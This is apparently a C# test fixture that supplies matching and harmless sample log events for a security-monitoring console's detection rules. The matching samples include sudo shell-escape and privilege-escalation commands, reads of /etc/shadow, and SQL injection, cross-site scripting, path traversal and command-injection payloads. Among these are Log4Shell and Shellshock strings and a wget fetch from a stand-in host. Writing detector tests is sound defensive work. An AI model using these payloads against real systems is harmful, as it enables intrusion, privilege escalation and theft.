namespace SocConsole.Tests.Detection.Rules;

/// <summary>Events that a rule must match, and events that it must leave alone.</summary>
internal sealed record RuleSample(string[] Matching, string[] Harmless);

/// <summary>Samples for every built-in rule by its name; a rule without them fails its test.</summary>
internal static class RuleSamples
{
    private const string Ssh = "event.dataset=sshd; event.category=authentication; source.ip=203.0.113.7; user.name=root; event.action=";
    private const string Sudo = "event.dataset=sudo; event.category=process; user.name=alice; user.effective.name=root; event.action=";
    private const string Command = Sudo + "sudo_command; process.command_line=";
    private const string Web = "event.dataset=apache.access; event.category=web; event.action=http_request; source.ip=203.0.113.7; ";
    private const string Url = Web + "soc.url.decoded=";
    private const string Agent = Web + "user_agent.original=";
    private const string Firefox = Agent + "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

    public static readonly IReadOnlyDictionary<string, RuleSample> ByRule = new Dictionary<string, RuleSample>
    {
        ["ssh_login_failed"] = new([Ssh + "ssh_login_failed"], [Ssh + "ssh_login", "event.dataset=json; event.action=ssh_login_failed"]),
        ["ssh_invalid_user"] = new([Ssh + "ssh_invalid_user"], [Ssh + "ssh_login_failed"]),
        ["ssh_pam_failed"] = new([Ssh + "pam_auth_failed"], [Ssh + "ssh_login_failed", "event.dataset=sudo; event.action=pam_auth_failed"]),
        ["ssh_login_refused"] = new([Ssh + "ssh_not_allowed", Ssh + "ssh_method_refused", Ssh + "ssh_max_attempts"], [Ssh + "ssh_login_failed", Ssh + "pam_auth_failed"]),
        ["ssh_unfinished_login"] = new(
            [Ssh + "ssh_disconnect; event.outcome=failure", Ssh + "ssh_connection_closed; event.outcome=failure"],
            [Ssh + "ssh_disconnect", Ssh + "ssh_connection_closed", Ssh + "ssh_login_failed; event.outcome=failure"]),
        ["ssh_probe"] = new([Ssh + "ssh_no_identification", Ssh + "ssh_protocol_error", Ssh + "ssh_connection_dropped"], [Ssh + "ssh_connection"]),
        ["ssh_login_success"] = new([Ssh + "ssh_login"], [Ssh + "ssh_login_failed"]),
        ["login_failed"] = new(
            ["event.dataset=json; event.action=login_failed; source.ip=203.0.113.7", "event.dataset=pam; event.action=pam_auth_failed; service.name=vsftpd"],
            ["event.dataset=pam; event.action=pam_auth_failed; service.name=sshd", "event.dataset=pam; event.action=pam_auth_failed; service.name=sudo", "event.dataset=sudo; event.action=pam_auth_failed", Ssh + "login_failed", "event.action=login"]),
        ["sudo_not_allowed"] = new([Sudo + "sudo_not_allowed"], [Sudo + "sudo_command"]),
        ["sudo_auth_failed"] = new([Sudo + "sudo_auth_failed"], [Sudo + "sudo_not_allowed"]),
        ["sudo_shell_escape"] = new(
            [Command + "/usr/bin/vi -c ':!/bin/sh' /dev/null", Command + "/usr/bin/find . -exec /bin/sh ;", Command + "/usr/bin/awk BEGIN {system(\"/bin/sh\")}", Command + "/usr/bin/python3 -c import os; os.system(1)", Command + "/usr/bin/env /bin/bash", Command + "/bin/tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh"],
            [Command + "/usr/bin/vi /etc/hosts", Command + "/usr/bin/find /var/log -name *.gz", Command + "/usr/bin/awk {print} /var/log/syslog", Command + "/usr/bin/apt-get update", Command + "/bin/systemctl restart ssh"]),
        ["sudo_sensitive_files"] = new(
            [Command + "/usr/bin/vi /etc/sudoers", Command + "/bin/cat /etc/shadow", Command + "/usr/bin/tee -a /etc/passwd", Command + "/bin/cp /tmp/x /etc/pam.d/sshd"],
            [Command + "/usr/sbin/visudo", Command + "/bin/cat /etc/passwd", Command + "/bin/ls /etc/pam.d/", Command + "/usr/bin/vi /etc/hosts"]),
        ["sudo_setuid"] = new(
            [Command + "/bin/chmod u+s /bin/bash", Command + "/bin/chmod 4755 /tmp/sh", Command + "/sbin/setcap cap_setuid+ep /usr/bin/python3"],
            [Command + "/bin/chmod 0755 /srv/app", Command + "/bin/chmod 755 /srv/app", Command + "/bin/chmod +x /srv/run", Command + "/sbin/setcap cap_net_bind_service=+ep /srv/app"]),
        ["sudo_group_membership"] = new(
            [Command + "/usr/sbin/usermod -aG sudo mallory", Command + "/usr/sbin/adduser mallory sudo", Command + "/usr/bin/gpasswd -a mallory wheel", Command + "/usr/sbin/useradd -o -u 0 -g 0 toor"],
            [Command + "/usr/sbin/usermod -aG video alice", Command + "/usr/sbin/adduser bob", Command + "/usr/sbin/useradd -u 1004 bob"]),
        ["sudo_root_shell"] = new([Command + "/bin/bash", Command + "/bin/su -", Command + "/bin/su"], [Command + "/bin/su postgres", Command + "/bin/bash /srv/backup.sh"]),
        ["web_sql_injection"] = new(
            [Url + "/item?id=1 union all select null,version()", Url + "/login?u=admin' or '1'='1", Url + "/i?id=1;drop table users", Url + "/i?id=1 and sleep(5)", Url + "/i?id=1' and updatexml(1,concat(0x7e,user()),1)#", Agent + "x' OR 1=1-- ", Web + "http.request.body.content=user=admin%27+or+1%3D1--+&pw=x", Url + "/i?user[$ne]=1", Url + "/i?q=/**/union/**/select/**/1,2"],
            [Url + "/blog/the-european-union-selects-a-leader", Url + "/shop?q=rock+and+roll&sort=price", Url + "/o'reilly/books", Url + "/search?q=order by phone", Url + "/docs/select2.js", Firefox]),
        ["web_cross_site_scripting"] = new(
            [Url + "/s?q=<script>alert(1)</script>", Url + "/s?q=\"><img src=x onerror=alert(1)>", Url + "/s?u=javascript:alert(document.cookie)", Web + "http.request.referrer=http://x/%3Csvg/onload=alert(1)%3E", Url + "/s?q=jaVasCript:x".ToLowerInvariant()],
            [Url + "/s?q=1 < 2 and 3 > 2", Url + "/javascript/tutorial", Url + "/shop?online=1&once=2", Url + "/window.png", Firefox]),
        ["web_path_traversal"] = new(
            [Url + "/download?f=../../../../etc/passwd", Url + "/.git/config", Url + "/.env", Web + "url.original=/x?f=..%c0%af..%c0%afetc; soc.url.decoded=/x?f=..", Url + "/?p=php://filter/convert.base64-encode/resource=index", Web + "http.request.body.content=f=..%2f..%2f..%2fetc%2fpasswd"],
            [Url + "/.well-known/acme-challenge/x", Url + "/img/logo.png?v=1..2", Url + "/a/b/c...html", Url + "/search?q=.net", Firefox]),
        ["web_command_injection"] = new(
            [Url + "/ping?host=127.0.0.1;cat /etc/passwd", Url + "/x?q=${jndi:ldap://198.51.100.1/a}", Agent + "() { :;}; /bin/bash -c 'id'", Agent + "${jndi:ldap://198.51.100.1/a}", Url + "/x?c=`whoami`", Url + "/x?c=a|wget http://198.51.100.1/x", Url + "/x?c=$(id)", Url + "/x?cmd=cat /etc/hosts", Url + "/scripts/..%5c/cmd.exe?/c+dir"],
            [Url + "/cats?id=4;type=big", Url + "/fonts?family=open+sans|roboto", Url + "/a?cat=5&id=7&find=x", Agent + "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10", Agent + "Mozilla/5.0 (compatible; MSIE 10.0; ARM; Touch; NOKIA; Lumia 920)", Firefox]),
        ["web_scanner_agent"] = new([Agent + "sqlmap/1.8#stable (https://sqlmap.org)", Agent + "Mozilla/5.00 (Nikto/2.5.0)", Agent + "Mozilla/5.0 zgrab/0.x"], [Firefox, Agent + "Mozilla/5.0 (compatible; Googlebot/2.1)"]),
        ["web_not_found"] = new([Web + "http.response.status_code=404"], [Web + "http.response.status_code=200"]),
        ["web_request"] = new([Web + "http.response.status_code=200"], ["event.category=web; event.action=http_error", "event.category=process; event.action=http_request"]),
    }.Concat(WindowsRuleSamples.ByRule).ToDictionary();
}
